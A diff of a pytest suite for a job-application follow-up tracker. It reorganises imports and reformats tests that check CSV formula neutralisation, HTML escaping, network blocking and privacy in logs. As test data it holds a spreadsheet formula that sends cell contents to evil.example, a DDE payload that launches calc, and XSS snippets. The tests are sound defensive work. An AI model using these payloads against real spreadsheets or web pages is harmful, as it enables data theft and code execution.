@@ -17,16 +17,25 @@ import pytest
 
 from followup_kit.cli import main
 from followup_kit.errors import FollowupKitError
-from followup_kit.exporters import export_tracker
-from followup_kit.importers import import_source
-from followup_kit.schedule import follow_up_schedule
-from followup_kit.tracker import Tracker
+from followup_kit.followups.schedule import follow_up_schedule
+from followup_kit.io.kit_folder import export_tracker
+from followup_kit.io.spreadsheet import import_source
+from followup_kit.store.tracker import Tracker
 
 ROOT = Path(__file__).resolve().parent.parent
 NETGUARD = Path(__file__).resolve().parent / "netguard"
 
-RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 Cola", "-2 Minus Ltd", "@SUM(A1:A9)",
-         "\tTabbed Inc", "\rReturn Corp", "'Quoted", "=1+2", "Plain & Co"]
+RISKY = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1 Cola",
+    "-2 Minus Ltd",
+    "@SUM(A1:A9)",
+    "\tTabbed Inc",
+    "\rReturn Corp",
+    "'Quoted",
+    "=1+2",
+    "Plain & Co",
+]
 
 
 def mode(path) -> int:
@@ -40,10 +49,13 @@ def mode(path) -> int:
 def risky_tracker(tmp_path):
     t = Tracker.create(tmp_path / "t.sqlite", timezone="Europe/London")
     for i, name in enumerate(RISKY):
-        app = t.add_application(name.strip() if name[0] not in "\t\r" else name, "=cmd|' /C calc'!A0",
-                                applied_on="2026-01-05", notes=f"@note {i}")
-        person = t.add_contact(f"-Person {i}", company=name.strip(), email=f"p{i}@example.com",
-                               relation="interviewer")
+        app = t.add_application(
+            name.strip() if name[0] not in "\t\r" else name,
+            "=cmd|' /C calc'!A0",
+            applied_on="2026-01-05",
+            notes=f"@note {i}",
+        )
+        person = t.add_contact(f"-Person {i}", company=name.strip(), email=f"p{i}@example.com", relation="interviewer")
         t.log_interview(app, "2026-01-12 10:00", [person], memorable_detail="+a detail")
     yield t
     t.close()
@@ -79,8 +91,13 @@ def test_due_csv_output_is_neutralised_too(risky_tracker, capsys):
     out = capsys.readouterr().out
     assert code == 0
     frame = pd.read_csv(pd.io.common.StringIO(out), dtype=str, keep_default_na=False)
-    risky = [v for col in ("company", "role", "contact_name") if col in frame for v in frame[col]
-             if v.startswith(("=", "+", "-", "@"))]
+    risky = [
+        v
+        for col in ("company", "role", "contact_name")
+        if col in frame
+        for v in frame[col]
+        if v.startswith(("=", "+", "-", "@"))
+    ]
     assert risky == [], "formula-like cells must be prefixed with an apostrophe"
     assert any(v.startswith("'=") for col in ("company", "role", "contact_name") if col in frame for v in frame[col])
 
@@ -90,14 +107,20 @@ def test_due_csv_output_is_neutralised_too(risky_tracker, capsys):
 
 def test_desk_escapes_user_text_in_drafts_and_lists(tmp_path):
     pytest.importorskip("ipywidgets")
-    from followup_kit.desk import FollowUpDesk
+    from followup_kit.notebook.desk import FollowUpDesk
 
     t = Tracker.create(tmp_path / "t.sqlite", timezone="UTC")
     app = t.add_application("<script>alert(1)</script>", "<b>Role</b>", applied_on="2026-03-01")
-    person = t.add_contact("<img src=x onerror=alert(2)>", company="X", email="a@example.com",
-                           relation="hiring_manager")
-    t.log_interview(app, "2026-03-10 10:00", [person], memorable_detail="<iframe src=//evil.example>",
-                    decision_expected_on="2026-03-13")
+    person = t.add_contact(
+        "<img src=x onerror=alert(2)>", company="X", email="a@example.com", relation="hiring_manager"
+    )
+    t.log_interview(
+        app,
+        "2026-03-10 10:00",
+        [person],
+        memorable_detail="<iframe src=//evil.example>",
+        decision_expected_on="2026-03-13",
+    )
     desk = FollowUpDesk(t, as_of="2026-03-11")
     shown = desk.draft_html.value + desk.summary.value + desk.actions_table().data
     assert "<script>" not in shown and "<img src=x" not in shown and "<iframe" not in shown
@@ -141,14 +164,16 @@ def test_everything_written_is_owner_only(tmp_path, capsys, monkeypatch):
 
 
 def test_backup_is_consistent_while_another_process_writes(tmp_path):
-    from followup_kit.sample import create_sample_tracker
+    from followup_kit.datasets.sample import create_sample_tracker
 
     db = tmp_path / "t.sqlite"
     create_sample_tracker(db).close()
-    script = ("import sys\nfrom followup_kit.tracker import Tracker\n"
-              "with Tracker.open(sys.argv[1]) as t:\n"
-              "    for i in range(200):\n"
-              "        t.add_application(f'Busy {i}', 'Role')\n")
+    script = (
+        "import sys\nfrom followup_kit.store.tracker import Tracker\n"
+        "with Tracker.open(sys.argv[1]) as t:\n"
+        "    for i in range(200):\n"
+        "        t.add_application(f'Busy {i}', 'Role')\n"
+    )
     writer = subprocess.Popen([sys.executable, "-c", script, str(db)], env=_env(), stderr=subprocess.PIPE, text=True)
     copies = []
     with Tracker.open(db) as t:
@@ -176,28 +201,41 @@ def _env(guard=False, **extra):
 
 def _guarded(args, tmp_path, **kw):
     log = tmp_path / "netguard.log"
-    return subprocess.run([sys.executable, *args], env=_env(True, FOLLOWUP_KIT_NETGUARD_LOG=log),
-                          capture_output=True, text=True, timeout=300, cwd=tmp_path, **kw), log
+    return subprocess.run(
+        [sys.executable, *args],
+        env=_env(True, FOLLOWUP_KIT_NETGUARD_LOG=log),
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=tmp_path,
+        **kw,
+    ), log
 
 
 def test_the_guard_really_blocks(tmp_path):
-    probe = ("import socket\n"
-             "for target in [('203.0.113.1', 80), ('example.com', 443)]:\n"
-             "    try:\n"
-             "        socket.create_connection(target, timeout=3)\n"
-             "        print('CONNECTED', target)\n"
-             "    except OSError as exc:\n"
-             "        print('refused', type(exc).__name__)\n"
-             "s = socket.socket()\n"
-             "try:\n"
-             "    s.connect(('203.0.113.1', 80))\n"
-             "except ConnectionRefusedError as exc:\n"
-             "    print('raw refused', 'netguard' in str(exc))\n"
-             "srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen()\n"
-             "socket.create_connection(srv.getsockname(), timeout=3); print('loopback ok')\n")
+    probe = (
+        "import socket\n"
+        "for target in [('203.0.113.1', 80), ('example.com', 443)]:\n"
+        "    try:\n"
+        "        socket.create_connection(target, timeout=3)\n"
+        "        print('CONNECTED', target)\n"
+        "    except OSError as exc:\n"
+        "        print('refused', type(exc).__name__)\n"
+        "s = socket.socket()\n"
+        "try:\n"
+        "    s.connect(('203.0.113.1', 80))\n"
+        "except ConnectionRefusedError as exc:\n"
+        "    print('raw refused', 'netguard' in str(exc))\n"
+        "srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen()\n"
+        "socket.create_connection(srv.getsockname(), timeout=3); print('loopback ok')\n"
+    )
     done, log = _guarded(["-c", probe], tmp_path)
-    assert done.stdout.split("\n")[:4] == ["refused ConnectionRefusedError", "refused ConnectionRefusedError",
-                                            "raw refused True", "loopback ok"], done.stdout + done.stderr
+    assert done.stdout.split("\n")[:4] == [
+        "refused ConnectionRefusedError",
+        "refused ConnectionRefusedError",
+        "raw refused True",
+        "loopback ok",
+    ], done.stdout + done.stderr
     assert "203.0.113.1" in log.read_text()
 
 
@@ -222,15 +260,19 @@ def test_cli_works_with_the_network_off(tmp_path):
 
 def test_desk_notebook_runs_through_papermill_with_the_network_off(tmp_path):
     """The follow-up desk notebook executed by papermill, kernel included, with sockets guarded."""
-    from followup_kit.sample import create_sample_tracker
+    from followup_kit.datasets.sample import create_sample_tracker
 
     create_sample_tracker(tmp_path / "t.sqlite").close()
-    script = ("import papermill as pm, sys\n"
-              "pm.execute_notebook(sys.argv[1], sys.argv[2], parameters={'tracker': sys.argv[3]},\n"
-              "                    kernel_name='python3', progress_bar=False, cwd=sys.argv[4])\n")
+    script = (
+        "import papermill as pm, sys\n"
+        "pm.execute_notebook(sys.argv[1], sys.argv[2], parameters={'tracker': sys.argv[3]},\n"
+        "                    kernel_name='python3', progress_bar=False, cwd=sys.argv[4])\n"
+    )
     nb = ROOT / "notebooks" / "follow_ups.ipynb"
-    done, log = _guarded(["-c", script, str(nb), str(tmp_path / "out.ipynb"), str(tmp_path / "t.sqlite"),
-                          str(nb.parent)], tmp_path, )
+    done, log = _guarded(
+        ["-c", script, str(nb), str(tmp_path / "out.ipynb"), str(tmp_path / "t.sqlite"), str(nb.parent)],
+        tmp_path,
+    )
     assert done.returncode == 0, done.stderr[-3000:]
     assert not log.exists(), log.read_text()
     assert "Thank-you" in (tmp_path / "out.ipynb").read_text(encoding="utf-8")
@@ -240,13 +282,15 @@ def test_desk_notebook_runs_through_papermill_with_the_network_off(tmp_path):
 
 
 def test_nothing_personal_is_logged(tmp_path, caplog):
-    from followup_kit.drafts import draft
-    from followup_kit.sample import create_sample_tracker
+    from followup_kit.datasets.sample import create_sample_tracker
+    from followup_kit.followups.drafts import draft
 
     caplog.set_level(logging.DEBUG)
     sheet = tmp_path / "jobs.csv"
-    sheet.write_text("Company,Role,Applied,Interview 1,Referrer\n"
-                     "Acme,Analyst,2026-11-02,2026-11-12,Rosa Privatperson\n", encoding="utf-8")
+    sheet.write_text(
+        "Company,Role,Applied,Interview 1,Referrer\nAcme,Analyst,2026-11-02,2026-11-12,Rosa Privatperson\n",
+        encoding="utf-8",
+    )
     with create_sample_tracker(tmp_path / "t.sqlite") as t:
         import_source(t, sheet)
         schedule = follow_up_schedule(t, as_of="2026-11-20")
@@ -261,12 +305,14 @@ def test_nothing_personal_is_logged(tmp_path, caplog):
 
 def test_import_errors_name_cells_not_email_addresses(tmp_path):
     sheet = tmp_path / "jobs.csv"
-    sheet.write_text("Company,Role,Referrer,Notes\n"
-                     "Acme,Analyst,ada.lovelace@example.com\x07,ok\n"
-                     "Globex,Engineer,Bob,write to bob.private@example.org \x00 soon\n", encoding="utf-8")
-    with Tracker.create(tmp_path / "t.sqlite", timezone="UTC") as t:
-        with pytest.raises(FollowupKitError) as info:
-            import_source(t, sheet)
+    sheet.write_text(
+        "Company,Role,Referrer,Notes\n"
+        "Acme,Analyst,ada.lovelace@example.com\x07,ok\n"
+        "Globex,Engineer,Bob,write to bob.private@example.org \x00 soon\n",
+        encoding="utf-8",
+    )
+    with Tracker.create(tmp_path / "t.sqlite", timezone="UTC") as t, pytest.raises(FollowupKitError) as info:
+        import_source(t, sheet)
     message = str(info.value)
     assert "row 2, column 'Referrer'" in message and "row 3, column 'Notes'" in message
     assert "ada.lovelace@example.com" not in message and "bob.private@example.org" not in message
@@ -275,12 +321,22 @@ def test_import_errors_name_cells_not_email_addresses(tmp_path):
 # --- git ------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("path,ignored", [
-    ("data/tracker.sqlite", True), ("data/tracker.sqlite-wal", True), ("data/tracker.rejects.csv", True),
-    ("data/my-search.sqlite", True), ("reports/weekly-2026-11-20.html", True), ("exports/x/contacts.csv", True),
-    ("backups/tracker-20261120.sqlite", True), ("jobs.rejects.csv", True), ("follow-ups.ics", True),
-    ("data/sample/contacts.csv", False), ("data/benchmarks.csv", False),
-])
+@pytest.mark.parametrize(
+    "path,ignored",
+    [
+        ("data/tracker.sqlite", True),
+        ("data/tracker.sqlite-wal", True),
+        ("data/tracker.rejects.csv", True),
+        ("data/my-search.sqlite", True),
+        ("reports/weekly-2026-11-20.html", True),
+        ("exports/x/contacts.csv", True),
+        ("backups/tracker-20261120.sqlite", True),
+        ("jobs.rejects.csv", True),
+        ("follow-ups.ics", True),
+        ("data/sample/contacts.csv", False),
+        ("data/benchmarks.csv", False),
+    ],
+)
 def test_gitignore_keeps_personal_data_out(path, ignored):
     if not (ROOT / ".git").exists():
         pytest.skip("not a git checkout")
